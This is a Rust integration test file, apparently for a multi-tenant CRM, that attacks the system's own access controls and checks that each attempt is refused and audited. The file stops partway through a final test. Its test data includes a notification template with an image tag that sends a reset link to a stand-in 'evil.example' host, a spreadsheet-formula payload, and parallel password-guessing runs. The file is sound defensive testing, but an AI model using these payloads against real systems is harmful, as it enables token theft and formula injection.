//! Security inside a tenant, tried the way an attacker inside it would
//! (docs/adr/0016): nobody grants more than they hold, entitlements are
//! sold not self-served, credentials die with their owner and cannot breed,
//! "log out everywhere" means everywhere, secrets stay out of reach,
//! counters cannot be raced, files and exports cannot be turned against
//! their reader. Every refusal is a JSON error, audited, and changes nothing.

use reqwest::Method;
use serde_json::{json, Value};

use crate::helpers::{body_of, eventually, fixture_store, mailbox, mint, send, session_for, stack, unique_phone, TestApp, OPERATOR_KEY};

fn code(body: &Value) -> Option<&str> {
    body["error"]["code"].as_str()
}

async fn audited_refusals(admin: &TestApp, route: &str) -> Vec<Value> {
    let log = admin.get_json("/v1/admin/audit-logs?action=security.refused&limit=100").await;
    log["data"].as_array().cloned().unwrap_or_default().into_iter().filter(|e| e["subject"]["id"] == route).collect()
}

async fn with_key(key: &str, method: Method, path: &str, body: Value) -> (u16, Value) {
    send(reqwest::Client::new().request(method, format!("{}{path}", stack().url)).header("x-api-key", key).json(&body)).await
}

async fn api_key(app: &TestApp, permissions: &[&str]) -> (u16, Value) {
    send(app.post("/v1/admin/api-keys").json(&json!({"name": "integration", "permissions": permissions}))).await
}

#[tokio::test]
async fn an_admin_cannot_reach_above_their_role_by_any_path() {
    let owner = TestApp::with_roles(&["super_admin"]).await;
    let admin = owner.colleague(&["admin"]).await;
    let viewer = owner.colleague(&["viewer"]).await;

    // The reported path: a group handing out super_admin, then demoting the owner.
    let (status, body) =
        send(admin.post("/v1/admin/groups").json(&json!({"name": "Owners", "code": "owners", "default_roles": ["super_admin"]}))).await;
    assert_eq!((status, code(&body)), (403, Some("FORBIDDEN")), "{body}");
    assert_eq!(admin.get_json("/v1/admin/groups").await["data"], json!([]), "nothing was created");
    let roles = |id: crm_kernel::UserId| format!("/v1/admin/users/{id}/roles");
    assert_eq!(send(admin.post(&roles(owner.user)).json(&json!({"roles": ["viewer"]}))).await.0, 403, "demote the owner");
    for action in ["suspend", "deactivate", "force-logout"] {
        assert_eq!(send(admin.post(&format!("/v1/admin/users/{}/{action}", owner.user))).await.0, 403, "{action} the owner");
    }
    assert_eq!(send(admin.request(Method::DELETE, &format!("/v1/admin/users/{}", owner.user))).await.0, 403, "delete the owner");

    // Raising someone, or oneself, above one's own highest role.
    assert_eq!(send(admin.post(&roles(viewer.user)).json(&json!({"roles": ["super_admin"]}))).await.0, 403);
    assert_eq!(
        send(admin.post(&roles(admin.user)).json(&json!({"roles": ["super_admin"]}))).await.0,
        403,
        "nobody changes their own roles"
    );
    let new_user = json!({"email": "boss@grant.example.com", "full_name": "Boss", "password": "s3cret-pass", "roles": ["super_admin"]});
    assert_eq!(send(admin.post("/v1/admin/users").json(&new_user)).await.0, 403);
    assert_eq!(
        send(admin.post("/v1/admin/users/invite").json(&json!({"email": "boss2@grant.example.com", "roles": ["super_admin"]}))).await.0,
        403
    );
    let edge = json!({"parent_role": "viewer", "child_role": "super_admin"});
    assert_eq!(send(admin.post("/v1/admin/roles/hierarchy").json(&edge)).await.0, 403, "a hierarchy link grants too");
    assert_eq!(send(viewer.get("/v1/admin/users")).await.0, 403, "the viewer got nothing");

    // The rule is the role's rank, not the permissions: a manager who inherits
    // every admin permission still grants only up to manager.
    assert_eq!(send(admin.post("/v1/admin/roles/hierarchy").json(&json!({"parent_role": "manager", "child_role": "admin"}))).await.0, 201);
    let manager = owner.colleague(&["manager"]).await;
    assert_eq!(send(manager.post(&roles(viewer.user)).json(&json!({"roles": ["admin"]}))).await.0, 403, "above manager");
    assert_eq!(send(manager.post(&roles(admin.user)).json(&json!({"roles": ["viewer"]}))).await.0, 403, "an admin is out of reach");
    let (status, rep) = send(manager.post(&roles(viewer.user)).json(&json!({"roles": ["sales_rep"]}))).await;
    assert_eq!((status, rep["data"]["roles"].clone()), (200, json!(["sales_rep"])), "{rep}");

    let o = owner.get_json(&format!("/v1/admin/users/{}", owner.user)).await;
    assert_eq!((o["data"]["roles"].clone(), o["data"]["status"].as_str()), (json!(["super_admin"]), Some("active")), "the owner stays");
    let refusals = audited_refusals(&owner, "POST /v1/admin/groups").await;
    assert_eq!(refusals.len(), 1, "refusals are audited");
    assert_eq!(refusals[0]["actor"]["user_id"], admin.user.to_string(), "{refusals:?}");
    assert_eq!(refusals[0]["details"]["code"], "FORBIDDEN");
}

#[tokio::test]
async fn two_owners_demoting_each_other_at_once_leave_one_owner() {
    let a = TestApp::with_roles(&["super_admin"]).await;
    let b = a.colleague(&["super_admin"]).await;
    let demote =
        |by: &TestApp, whom: crm_kernel::UserId| by.post(&format!("/v1/admin/users/{whom}/roles")).json(&json!({"roles": ["admin"]}));
    let (ra, rb) = tokio::join!(send(demote(&a, b.user)), send(demote(&b, a.user)));
    let statuses = [ra.0, rb.0];
    assert_eq!(statuses.iter().filter(|s| **s == 200).count(), 1, "exactly one wins: {ra:?} {rb:?}");
    let users = a.get_json("/v1/admin/users").await["data"].as_array().cloned().unwrap();
    let owners = users.iter().filter(|u| u["roles"].as_array().unwrap().contains(&json!("super_admin"))).count();
    assert_eq!(owners, 1, "never zero owners");
    // The one left cannot be taken away by anyone: not by themselves, not by the demoted one.
    let last = if ra.0 == 200 { &a } else { &b };
    let other = if ra.0 == 200 { &b } else { &a };
    assert_eq!(send(demote(other, last.user)).await.0, 403);
    for action in ["suspend", "deactivate"] {
        assert_eq!(send(other.post(&format!("/v1/admin/users/{}/{action}", last.user))).await.0, 403);
    }
}

#[tokio::test]
async fn the_last_active_super_admin_is_never_suspended_demoted_or_deleted() {
    let owner = TestApp::with_roles(&["super_admin"]).await;
    // A board member holds super_admin through a group, as an owner may hand out.
    let board = owner.colleague(&["admin"]).await;
    let g =
        body_of(owner.post("/v1/admin/groups").json(&json!({"name": "Board", "code": "board", "default_roles": ["super_admin"]}))).await;
    let gid = g["data"]["id"].as_str().unwrap().to_string();
    assert_eq!(send(owner.post(&format!("/v1/admin/groups/{gid}/members")).json(&json!({"user_id": board.user.to_string()}))).await.0, 201);
    // The board member may act as a super admin, but the owner is the last
    // one holding the role itself: no demotion, suspension or deletion.
    let (status, body) = send(board.post(&format!("/v1/admin/users/{}/roles", owner.user)).json(&json!({"roles": ["admin"]}))).await;
    assert_eq!((status, code(&body)), (422, Some("LAST_SUPER_ADMIN")), "{body}");
    for action in ["suspend", "deactivate"] {
        let (status, body) = send(board.post(&format!("/v1/admin/users/{}/{action}", owner.user))).await;
        assert_eq!((status, code(&body)), (422, Some("LAST_SUPER_ADMIN")), "{action}: {body}");
    }
    assert_eq!(send(board.request(Method::DELETE, &format!("/v1/admin/users/{}", owner.user))).await.0, 422);
    let o = owner.get_json(&format!("/v1/admin/users/{}", owner.user)).await;
    assert_eq!((o["data"]["roles"].clone(), o["data"]["status"].as_str()), (json!(["super_admin"]), Some("active")));
    assert_eq!(audited_refusals(&owner, "POST /v1/admin/users/{id}/roles").await.len(), 1, "audited");
    // With a second owner in their own right, the first may step down.
    let second = owner.colleague(&["viewer"]).await;
    assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/roles", second.user)).json(&json!({"roles": ["super_admin"]}))).await.0, 200);
    assert_eq!(send(board.post(&format!("/v1/admin/users/{}/suspend", owner.user))).await.0, 200, "another owner remains");
}

#[tokio::test]
async fn an_approval_grants_exactly_the_move_that_was_approved() {
    let admin = TestApp::with_plan(&["admin"], "DevPro").await;
    let rep = admin.colleague(&["sales_rep"]).await;
    let manager = admin.colleague(&["manager"]).await;
    let policy = body_of(admin.post("/v1/approvals/policies").json(&json!({
        "name": "Big moves", "action_code": "deal.stage.move", "object_type": "deal",
        "conditions": [{"field": "amount_major", "op": "gt", "value": 100000}],
        "steps": [{"approver_mode": "role", "approver_ref": "manager"}],
    })))
    .await;
    assert!(policy["data"]["id"].is_string(), "{policy}");
    let d = body_of(rep.post("/v1/deals").json(&json!({"name": "Tower A bulk", "amount": 15_000_000}))).await["data"].clone();
    let id = d["id"].as_str().unwrap().to_string();
    let pipeline = body_of(rep.get(&format!("/v1/pipelines/{}", d["pipeline_id"].as_str().unwrap()))).await["data"].clone();
    let open: Vec<String> = pipeline["stages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["is_win"] != true && s["is_loss"] != true && s["id"] != d["stage_id"])
        .map(|s| s["id"].as_str().unwrap().to_string())
        .collect();
    let (x, y) = (&open[0], &open[1]);
    let mv = |stage: &str| rep.post(&format!("/v1/deals/{id}/move-stage")).json(&json!({"stage_id": stage}));
    let approve = |held: &Value| {
        let rid = held["data"]["approval_request"]["id"].as_str().unwrap().to_string();
        let manager = &manager;
        async move { body_of(manager.post(&format!("/v1/approvals/requests/{rid}/approve")).json(&json!({}))).await }
    };

    let (status, held) = send(mv(x)).await;
    assert_eq!(status, 202, "{held}");
    assert_eq!(approve(&held).await["data"]["state"], "approved");
    // Approved: a move to X. A move to Y is another question.
    let (status, other) = send(mv(y)).await;
    assert_eq!(status, 202, "the grant for X does not move the deal to Y: {other}");
    assert_ne!(other["data"]["approval_request"]["id"], held["data"]["approval_request"]["id"]);
    assert_eq!(approve(&other).await["data"]["state"], "approved");
    // A material change after approval voids it too.
    let patched = send(rep.request(Method::PATCH, &format!("/v1/deals/{id}")).json(&json!({"amount": 90_000_000}))).await;
    assert_eq!(patched.0, 200, "{:?}", patched.1);
    let (status, again) = send(mv(y)).await;
    assert_eq!(status, 202, "the amount changed since the approval: {again}");
    assert_eq!(again["data"]["approval_request"]["payload"]["amount"], 90_000_000);
    assert_eq!(approve(&again).await["data"]["state"], "approved");
    let (status, moved) = send(mv(y)).await;
    assert_eq!((status, moved["data"]["stage_id"].as_str()), (200, Some(y.as_str())), "{moved}");
}

#[tokio::test]
async fn a_tenant_admin_narrows_the_plan_but_only_the_operator_raises_it() {
    let admin = TestApp::admin().await;
    let before = admin.get_json(&format!("/v1/admin/entitlements/effective?userId={}", admin.user)).await;
    let put = |scope: &str, body: Value| admin.request(Method::PUT, &format!("/v1/admin/entitlements/overrides/{scope}")).json(&body);
    let (status, body) = send(put("tenant", json!({"features": {"notifications.sms": true}, "limits": {"users.max": 100000}}))).await;
    assert_eq!((status, code(&body)), (422, Some("ENTITLEMENT_ABOVE_PLAN")), "{body}");
    let msg = body["error"]["message"].as_str().unwrap();
    assert!(msg.contains("notifications.sms") && msg.contains("users.max"), "{msg}");
    let me = format!("user?id={}", admin.user);
    assert_eq!(send(put(&me, json!({"limits": {"contacts.max": 5000}}))).await.0, 422, "a user's share cannot exceed the plan either");
    let after = admin.get_json(&format!("/v1/admin/entitlements/effective?userId={}", admin.user)).await;
    assert_eq!(before["data"], after["data"], "nothing changed");
    assert_eq!(audited_refusals(&admin, "PUT /v1/admin/entitlements/overrides/{scope}").await.len(), 2);

    // Narrowing is the admin's: fewer seats, a feature off.
    assert_eq!(send(put("tenant", json!({"limits": {"users.max": 2}, "features": {"twofa.totp": false}}))).await.0, 200);
    // The operator sells more, audited in the tenant's log.
    let ops = format!("{}/v1/ops/tenants/{}/entitlements", stack().url, admin.tenant);
    let http = reqwest::Client::new();
    let sold = json!({"features": {"notifications.sms": true}, "limits": {"sms.monthlyCap": 200}});
    assert_eq!(http.put(&ops).json(&sold).send().await.unwrap().status(), 401, "no operator key");
    assert_eq!(
        http.put(&ops).header("x-operator-key", "a-guess-a-guess-a-guess-a-guess-x").json(&sold).send().await.unwrap().status(),
        401
    );
    let (status, granted) = send(http.put(&ops).header("x-operator-key", OPERATOR_KEY).json(&sold)).await;
    assert_eq!(status, 200, "{granted}");
    assert!(granted["data"]["base"]["features"].as_array().unwrap().contains(&json!("notifications.sms")));
    let eff = admin.get_json(&format!("/v1/admin/entitlements/effective?userId={}", admin.user)).await;
    let sms = eff["data"]["features"].as_array().unwrap().iter().find(|f| f["key"] == "notifications.sms").unwrap().clone();
    assert_eq!((sms["enabled"].as_bool(), sms["source"].as_str()), (Some(true), Some("operator")));
    let log = admin.get_json("/v1/admin/audit-logs?action=entitlement.grant.changed").await;
    assert_eq!(log["data"].as_array().unwrap().len(), 1);
    // The tenant may now share out what was sold, and no more.
    assert_eq!(send(put("tenant", json!({"limits": {"sms.monthlyCap": 150}}))).await.0, 200);
    assert_eq!(send(put("tenant", json!({"limits": {"sms.monthlyCap": 250}}))).await.0, 422);
    let stranger = TestApp::admin().await;
    let theirs = format!("{}/v1/ops/tenants/{}/entitlements", stack().url, crm_kernel::TenantId::new());
    assert_eq!(http.get(&theirs).header("x-operator-key", OPERATOR_KEY).send().await.unwrap().status(), 404);
    assert!(stranger.get_json("/v1/admin/audit-logs?action=entitlement.grant.changed").await["data"].as_array().unwrap().is_empty());
}

#[tokio::test]
async fn one_time_codes_have_a_tenant_budget_and_a_per_number_limit() {
    let owner = TestApp::with_plan(&["admin"], "DevPro").await;
    let mate = owner.colleague(&["sales_rep"]).await;
    let phone = unique_phone();
    let start = |app: &TestApp| app.post("/v1/auth/phone/verify/start").json(&json!({"e164": phone, "channel": "sms"}));
    // Five codes an hour to one number, whoever asks (each user may start 3 an hour).
    for _ in 0..3 {
        assert_eq!(send(start(&owner)).await.0, 202);
    }
    assert_eq!(send(start(&mate)).await.0, 202);
    assert_eq!(send(start(&mate)).await.0, 202);
    let (status, body) = send(start(&mate)).await;
    assert_eq!((status, code(&body)), (429, Some("RATE_LIMIT_EXCEEDED")), "the sixth code to one number in an hour: {body}");

    // The month's budget of the tenant, held by a counter in the send's transaction.
    let month = crm_kernel::Timestamp::now().month_start();
    let key = crm_store::keys::tenant_window(owner.tenant, "OTPSENDS", "month", month);
    let used = aws_sdk_dynamodb::types::AttributeValue::N("999".into());
    fixture_store()
        .await
        .client()
        .update_item()
        .table_name(&stack().table)
        .key("pk", aws_sdk_dynamodb::types::AttributeValue::S(key.pk.clone()))
        .key("sk", aws_sdk_dynamodb::types::AttributeValue::S(key.sk.clone()))
        .update_expression("SET #c = :n")
        .expression_attribute_names("#c", "count")
        .expression_attribute_values(":n", used)
        .send()
        .await
        .unwrap();
    let other = owner.colleague(&["sales_rep"]).await;
    let another = |app: &TestApp| app.post("/v1/auth/phone/verify/start").json(&json!({"e164": unique_phone(), "channel": "sms"}));
    assert_eq!(send(another(&other)).await.0, 202, "the 1000th code of the month");
    let (status, body) = send(another(&other)).await;
    assert_eq!((status, code(&body)), (422, Some("OTP_BUDGET_EXHAUSTED")), "{body}");
}

#[tokio::test]
async fn a_key_dies_with_its_creator_holds_no_more_than_they_do_and_never_breeds() {
    let owner = TestApp::with_roles(&["super_admin"]).await;
    let admin = owner.colleague(&["admin"]).await;
    // A key can never hold identity administration: no keys minting keys or users.
    for forbidden in
        ["apikey.manage", "user.manage", "role.assign", "groups.members.manage", "approvals.policies.manage", "notify.templates.manage"]
    {
        let (status, body) = api_key(&admin, &["note.read", forbidden]).await;
        assert_eq!((status, code(&body)), (403, Some("FORBIDDEN")), "{forbidden}: {body}");
    }
    assert_eq!(audited_refusals(&owner, "POST /v1/admin/api-keys").await.len(), 6, "each refusal audited");
    // A key stored before the rule, holding apikey.manage: the authorizer drops the code.
    let id = crm_kernel::EntityId::new();
    let legacy = crm_auth::opaque::OpaqueToken::generate(Some(identity::model::API_KEY_PREFIX), owner.tenant, id);
    let item = identity::model::ApiKey {
        id,
        tenant_id: owner.tenant,
        name: "legacy".into(),
        hash: legacy.hash(),
        hint: legacy.hint(),
        permissions: vec!["apikey.manage".into(), "note.read".into()],
        created_by: owner.user,
        created_at: crm_kernel::Timestamp::now(),
        expires_at: None,
        last_used_at: None,
        revoked_at: None,
        version: 1,
    };
    fixture_store().await.put(item.to_item().unwrap()).await.unwrap();
    let wire = legacy.to_wire();
    assert_eq!(with_key(&wire, Method::GET, "/v1/notes", json!({})).await.0, 200);
    assert_eq!(
        with_key(&wire, Method::POST, "/v1/admin/api-keys", json!({"name": "child", "permissions": ["note.read"]})).await.0,
        403,
        "keys never breed"
    );
    let (status, made) = api_key(&admin, &["note.read", "note.create", "contact.create"]).await;
    assert_eq!(status, 201, "{made}");
    let key = made["data"]["secret"].as_str().unwrap().to_string();
    assert_eq!(with_key(&key, Method::POST, "/v1/notes", json!({"body": "by key"})).await.0, 201);
    assert_eq!(with_key(&key, Method::POST, "/v1/admin/api-keys", json!({"name": "child", "permissions": ["note.read"]})).await.0, 403);

    // The creator loses a role: the key loses it on the next request.
    assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/roles", admin.user)).json(&json!({"roles": ["viewer"]}))).await.0, 200);
    assert_eq!(with_key(&key, Method::POST, "/v1/notes", json!({"body": "by key"})).await.0, 403, "viewers write no notes");
    assert_eq!(with_key(&key, Method::GET, "/v1/notes", json!({})).await.0, 200, "they still read");
    // Suspended: the key stops; reactivated: it works again (it was not revoked).
    assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/suspend", admin.user))).await.0, 200);
    assert_eq!(with_key(&key, Method::GET, "/v1/notes", json!({})).await.0, 401);
    assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/reactivate", admin.user))).await.0, 200);
    assert_eq!(with_key(&key, Method::GET, "/v1/notes", json!({})).await.0, 200);
    // Deactivated: every key of theirs is revoked, and audited — however many (not one transaction too big).
    assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/roles", admin.user)).json(&json!({"roles": ["admin"]}))).await.0, 200);
    let admin = admin.relogin().await; // the suspension ended every session of theirs
    for _ in 0..35 {
        assert_eq!(api_key(&admin, &["note.read"]).await.0, 201);
    }
    let (status, body) = send(owner.post(&format!("/v1/admin/users/{}/deactivate", admin.user))).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(with_key(&key, Method::GET, "/v1/notes", json!({})).await.0, 401);
    let keys = owner.get_json("/v1/admin/api-keys?limit=100").await;
    let mine: Vec<&Value> = keys["data"].as_array().unwrap().iter().filter(|k| k["created_by"] == admin.user.to_string()).collect();
    assert_eq!(mine.len(), 36);
    assert!(mine.iter().filter(|k| k["status"] == "revoked").count() >= 10, "{keys}");
    let log = owner.get_json("/v1/admin/audit-logs?action=apikey.revoked").await;
    assert_eq!(log["data"][0]["details"]["reason"], "user.deactivated", "{log}");
    assert_eq!(send(owner.post(&format!("/v1/admin/users/{}/reactivate", admin.user))).await.0, 200);
    assert_eq!(with_key(&key, Method::GET, "/v1/notes", json!({})).await.0, 401, "a revoked key stays dead");
}

#[tokio::test]
async fn force_logout_ends_every_session_however_many() {
    let admin = TestApp::admin().await;
    let rep = admin.colleague(&["sales_rep"]).await;
    let s = stack();
    let mut tokens = vec![rep.token.clone()];
    for _ in 0..84 {
        let sid = session_for(rep.tenant, rep.user).await;
        tokens.push(mint(&s.keys, rep.tenant, rep.user, Some(&sid), &["sales_rep"], 900));
    }
    let newest = tokens.last().unwrap().clone();
    let get = |t: &str| reqwest::Client::new().get(format!("{}/v1/notes", s.url)).bearer_auth(t.to_string());
    assert_eq!(send(get(&newest)).await.0, 200);
    assert_eq!(send(admin.post(&format!("/v1/admin/users/{}/force-logout", rep.user))).await.0, 200);
    let statuses = futures::future::join_all(tokens.iter().map(|t| async move { send(get(t)).await.0 })).await;
    assert!(statuses.iter().all(|s| *s == 401), "all 85 sessions end: {statuses:?}");
    // A session opened afterwards works.
    let sid = session_for(rep.tenant, rep.user).await;
    assert_eq!(send(get(&mint(&s.keys, rep.tenant, rep.user, Some(&sid), &["sales_rep"], 900))).await.0, 200);
}

#[tokio::test]
async fn secrets_never_reach_a_template_subject_the_outbox_or_an_admins_view() {
    let admin = TestApp::with_plan(&["admin"], "DevPro").await;
    let tpl = |channel: &str, family: &str, subject: &str, body: &str| {
        admin
            .post("/v1/notify/templates")
            .json(&json!({"channel": channel, "family": family, "locale": "en", "subject": subject, "body": body}))
    };
    let (status, body) = send(tpl("email", "auth.reset_password", "Your link: {{link}}", "Hello {{full_name}}: {{link}}")).await;
    assert_eq!((status, code(&body)), (422, Some("TEMPLATE_SECRET_EXPOSED")), "{body}");
    assert_eq!(send(tpl("inbox", "otp.login", "Sign-in", "Your code is {{code}}")).await.0, 422, "an inbox an admin can read");
    let (status, body) = send(tpl("email", "auth.reset_password", "Reset", "<img src=\"https://evil.example/p?l={{link}}\">")).await;
    assert_eq!((status, code(&body)), (422, Some("TEMPLATE_SECRET_EXPOSED")), "a body could carry the link to its author: {body}");
    assert_eq!(send(tpl("email", "auth.reset_password", "Reset your password", "Choose a new password, {{full_name}}.")).await.0, 201);
    // The tenant's wording, and the link the system adds below it; the outbox shows neither.
    let me = format!("{}@fixture.example.com", admin.user.to_string().to_lowercase());
    // The fixture user's login email, as a sign-up would have claimed it.
    let marker = identity::model::email_marker_key(&identity::email::Email::parse(&me).unwrap());
    let owner = identity::model::EmailOwner { tenant_id: admin.tenant, user_id: admin.user };
    fixture_store().await.put(crm_store::item::to_item(&marker, &owner).unwrap()).await.unwrap();
    let forgot = reqwest::Client::new().post(format!("{}/v1/auth/forgot-password", stack().url)).json(&json!({"email": me}));
    assert_eq!(send(forgot).await.0, 202);
    let mail = eventually("the reset mail", crate::helpers::PIPELINE, || async {
        mailbox(&me).await.into_iter().find(|m| m["template_code"] == "auth.reset_password")
    })
    .await;
    let text = mail["body"].as_str().unwrap();
    assert!(text.starts_with("Choose a new password, Fixture User.") && text.contains("/reset-password?token=rst."), "{text}");
    let outbox = admin.get_json("/v1/notify/messages?limit=100").await;
    let reset = outbox["data"].as_array().unwrap().iter().find(|m| m["template_code"] == "auth.reset_password").cloned().unwrap();
    assert_eq!((reset["subject"].clone(), reset["body"].clone()), (Value::Null, Value::Null), "{reset}");
    assert!(!outbox.to_string().contains("rst."), "no reset token anywhere in the outbox");

    // A contact channel's verification code: sent, never shown in the outbox.
    let address = format!("lina-{}@secret.example.com", ulid::Ulid::new().to_string().to_lowercase());
    let c = body_of(admin.post("/v1/contacts").json(&json!({"first_name": "Lina", "email": address}))).await;
    let cid = c["data"]["id"].as_str().unwrap().to_string();
    let ch = c["data"]["channels"].as_array().unwrap().iter().find(|x| x["value"] == address.as_str()).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(send(admin.post(&format!("/v1/contacts/{cid}/channels/{ch}/verify/start"))).await.0, 202);
    let sent = crate::helpers::code_sent_to(&address, "contact.verify_channel", &[]).await;
    let listed = admin.get_json("/v1/notify/messages?limit=100").await;
    let m = listed["data"].as_array().unwrap().iter().find(|m| m["template_code"] == "contact.verify_channel").cloned().unwrap();
    assert_eq!((m["subject"].clone(), m["body"].clone(), m["body_redacted"].as_bool()), (Value::Null, Value::Null, Some(true)), "{m}");
    assert!(!listed.to_string().contains(&sent), "the code is nowhere in the outbox");
    let one = admin.get_json(&format!("/v1/notify/messages/{}", m["id"].as_str().unwrap())).await;
    assert!(!one.to_string().contains(&sent));
}

#[tokio::test]
async fn fifteen_parallel_wrong_passwords_count_fifteen() {
    let email = format!("race{}@lockout.example.com", ulid::Ulid::new().to_string().to_lowercase());
    let reg = send(
        reqwest::Client::new()
            .post(format!("{}/v1/auth/register-super-admin", stack().url))
            .json(&json!({"tenant_name": "Race", "email": email, "password": "s3cret-pass", "full_name": "R"})),
    )
    .await;
    assert_eq!(reg.0, 201);
    let login = |password: &str| {
        reqwest::Client::new().post(format!("{}/v1/auth/login", stack().url)).json(&json!({"email": email, "password": password}))
    };
    let statuses = futures::future::join_all((0..15).map(|i| async move { send(login(&format!("wrong-pass-{i}"))).await.0 })).await;
    let checked = statuses.iter().filter(|s| **s == 401).count();
    assert!(checked <= 5, "at most five guesses are checked: {statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 15 - checked, "{statuses:?}");
    let right = login("s3cret-pass").send().await.unwrap();
    let retry: u64 = right.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert_eq!(right.status(), 429, "locked even with the right password");
    assert!(retry > 500, "the lockout's ten minutes, not a per-IP window: {retry}");
}

#[tokio::test]
async fn parallel_wrong_codes_each_spend_an_attempt() {
    let app = TestApp::with_plan(&["admin"], "DevPro").await;
    let phone = unique_phone();
    assert_eq!(send(app.post("/v1/auth/phone/verify/start").json(&json!({"e164": phone, "channel": "sms"}))).await.0, 202);
    let code_sent = crate::helpers::code_sent_to(&phone, "otp.verify_phone", &[]).await;
    let wrong: Vec<String> = (0..15).map(|i| format!("{:06}", (code_sent.parse::<u32>().unwrap() + 1 + i) % 1_000_000)).collect();
    let confirm = |c: &str| app.post("/v1/auth/phone/verify/confirm").json(&json!({"e164": phone, "code": c}));
    let answers = futures::future::join_all(wrong.iter().map(|c| async move { send(confirm(c)).await })).await;
    let invalid = answers.iter().filter(|(_, b)| code(b) == Some("OTP_INVALID")).count();
    assert!(invalid <= 4, "four wrong codes leave one attempt, at most: {answers:?}");
    let (status, body) = send(confirm(&code_sent)).await;
    assert_eq!((status, code(&body)), (422, Some("OTP_ATTEMPTS_EXCEEDED")), "the right code after 15 guesses: {body}");
}

#[tokio::test]
async fn totp_secrets_are_sealed_and_disabling_counts_toward_the_lockout() {
    let email = format!("t{}@totp-sec.example.com", ulid::Ulid::new().to_string().to_lowercase());
    let reg = body_of(
        reqwest::Client::new()
            .post(format!("{}/v1/auth/register-super-admin", stack().url))
            .json(&json!({"tenant_name": "T", "email": email, "password": "s3cret-pass", "full_name": "T"})),
    )
    .await;
    let token = reg["data"]["access_token"].as_str().unwrap().to_string();
    let tenant = crm_kernel::TenantId::parse(reg["data"]["tenant"]["id"].as_str().unwrap()).unwrap();
    let user = crm_kernel::UserId::parse(reg["data"]["user"]["id"].as_str().unwrap()).unwrap();
    let post =
        |path: &str, body: Value| reqwest::Client::new().post(format!("{}{path}", stack().url)).bearer_auth(token.clone()).json(&body);
    let setup = body_of(post("/v1/auth/totp/setup", json!({}))).await;
    let secret = setup["data"]["secret"].as_str().unwrap().to_string();
    let raw = identity::totp::base32_decode(&secret).unwrap();
    let now = crm_kernel::Timestamp::now().unix_seconds();
    let first = identity::totp::code_at(&raw, now / identity::totp::STEP_SECS);
    assert_eq!(send(post("/v1/auth/totp/confirm", json!({"code": first}))).await.0, 200);
    let stored = fixture_store().await.get(&identity::model::Totp::key(tenant, user)).await.unwrap().unwrap();
    let sealed = stored["secret"].as_s().unwrap();
    assert!(sealed.starts_with("v1.") && !sealed.contains(&secret), "sealed at rest: {sealed}");

    for i in 0..5 {
        let (status, body) = send(post("/v1/auth/totp/disable", json!({"code": format!("{:06}", i)}))).await;
        assert!(status == 401 || status == 429, "{body}");
    }
    let (status, body) = send(post("/v1/auth/totp/disable", json!({"password": "s3cret-pass"}))).await;
    assert_eq!((status, code(&body)), (429, Some("RATE_LIMIT_EXCEEDED")), "a stolen session cannot guess its way through: {body}");
    let login = send(
        reqwest::Client::new()
            .post(format!("{}/v1/auth/login", stack().url))
            .json(&json!({"email": email, "password": "s3cret-pass", "totp_code": first})),
    )
    .await;
    assert_eq!(login.0, 429, "the account's login is locked as well");
}

#[tokio::test]
async fn forgot_password_sends_three_links_an_hour_at_most() {
    let email = format!("f{}@forgot.example.com", ulid::Ulid::new().to_string().to_lowercase());
    let reg = send(
        reqwest::Client::new()
            .post(format!("{}/v1/auth/register-super-admin", stack().url))
            .json(&json!({"tenant_name": "F", "email": email, "password": "s3cret-pass", "full_name": "F"})),
    )
    .await;
    assert_eq!(reg.0, 201);
    let forgot = || reqwest::Client::new().post(format!("{}/v1/auth/forgot-password", stack().url)).json(&json!({"email": email}));
    let mut answers = Vec::new();
    for _ in 0..5 {
        answers.push(send(forgot()).await);
    }
    assert!(answers.iter().all(|(s, b)| *s == 202 && b["data"] == answers[0].1["data"]), "the same answer every time: {answers:?}");
    let unknown = send(
        reqwest::Client::new()
            .post(format!("{}/v1/auth/forgot-password", stack().url))
            .json(&json!({"email": format!("nobody{}@forgot.example.com", ulid::Ulid::new())})),
    )
    .await;
    assert_eq!((unknown.0, &unknown.1["data"]), (202, &answers[0].1["data"]), "an unknown email looks the same");
    let links = eventually("three reset links", crate::helpers::PIPELINE, || async {
        let n = mailbox(&email).await.iter().filter(|m| m["template_code"] == "auth.reset_password").count();
        (n >= 3).then_some(n)
    })
    .await;
    // The outbox records every queued message: three, not five, were ever queued.
    let owner = reg.1["data"]["access_token"].as_str().unwrap().to_string();
    let listed: Value =
        body_of(reqwest::Client::new().get(format!("{}/v1/notify/messages?limit=100", stack().url)).bearer_auth(owner)).await;
    let queued = listed["data"].as_array().map(|a| a.iter().filter(|m| m["template_code"] == "auth.reset_password").count());
    assert_eq!((links, queued), (3, Some(3)), "{listed}");
}

#[tokio::test]
async fn an_export_cell_is_never_a_live_formula() {
    let app = TestApp::admin().await;
    let evil = "=HYPERLINK(\"http://evil.example\",\"Click\")";
    let c =
        body_of(app.post("/v1/contacts").json(&json!({"first_name": evil, "last_name": "@SUM(A1)", "lifecycle_stage": "customer"}))).await;
    assert!(c["data"]["id"].is_string(), "{c}");
    let export = body_of(app.post("/v1/contacts/export").json(&json!({}))).await;
    let id = export["data"]["id"].as_str().unwrap().to_string();
    let job = eventually("the export", crate::helpers::PIPELINE, || async {
        let j = app.get_json(&format!("/v1/jobs/{id}")).await;
        (j["data"]["status"] == "completed").then_some(j["data"].clone())
    })
    .await;
    let file = reqwest::get(job["download"]["url"].as_str().unwrap()).await.unwrap().text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(file.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!((row.get(1), row.get(2)), (Some(format!("'{evil}").as_str()), Some("'@SUM(A1)")), "{file}");
}

#[tokio::test]
async fn the_storage_refuses_an_upload_outside_its_policy_and_a_job_reads_the_version_it_started_with() {
    let app = TestApp::admin().await;
    let made = body_of(app.post("/v1/contacts/import").json(&json!({"filename": "pinned.csv"}))).await;
    let form = made["data"]["upload"].clone();
    let id = made["data"]["job"]["id"].as_str().unwrap().to_string();
    assert_eq!(form["method"], "POST");
